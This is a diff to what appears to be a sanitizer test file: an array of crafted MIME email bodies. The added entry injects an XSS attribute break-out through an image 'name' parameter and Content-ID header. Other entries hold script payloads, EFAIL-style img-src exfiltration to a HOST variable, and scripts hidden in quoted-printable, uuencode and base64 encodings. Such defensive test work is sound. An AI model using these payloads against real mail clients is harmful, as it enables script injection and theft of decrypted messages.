@@ -100,6 +100,7 @@ const TRICKS: Bare[] = [
   `Content-Type: multipart/alternative; boundary=a\n\n--a\n${leaf('text/html', `<p>${SAID}</p>`)}\n--a\n${leaf('application/xhtml+xml', PAGE)}\n--a\n${leaf('image/svg+xml', SVG)}\n--a\n${leaf('text/javascript', RUN)}\n--a--`,
   `Content-Type: multipart/encrypted; boundary=a; protocol="application/pgp-encrypted"\n\n--a\n${leaf('text/html', PAGE)}\n--a\n${leaf('text/html', `<img src="${HOST}/efail?`)}\n--a--`,
   `Content-Type: multipart/mixed; boundary=a\n\n--a\n${leaf('text/html', `<p>${SAID}</p><img src="${HOST}/`)}\n--a\n${leaf('text/plain', 'a secret')}\n--a\n${leaf('text/html', `">${PAGE}`)}\n--a--`,
+  `Content-Type: multipart/mixed; boundary=a\n\n--a\n${leaf('text/html', `<p>${SAID}</p><img src="/placed/x"><p class=picture><img src=/placed/y>`)}\n--a\n${leaf(`image/png; name="\\"><img src=x onerror=${RUN}>"`, PAGE, 'Content-Disposition: inline')}\n--a\n${leaf('image/jpeg', SVG)}\n--a\n${leaf('image/gif; name="x\' onload=x"', 'GIF89a<script>', 'Content-ID: <x"><b>')}\n--a\n${leaf('text/html', PAGE)}\n--a--`,
   `Content-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n=3Cscript=3E${RUN.replaceAll('=', '=3D')}=3C/script=3E=3Cimg src=3Dx on=\nerror=3Dalert(1)=3E`,
   `Content-Type: text/html\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644 x.html\n${PAGE}\nend`,
   `Content-Type: text/html\nContent-Transfer-Encoding: base64\n\n${Buffer.from(PAGE).toString('base64').replace(/(.{10})/g, '$1 <script>\n')}`,
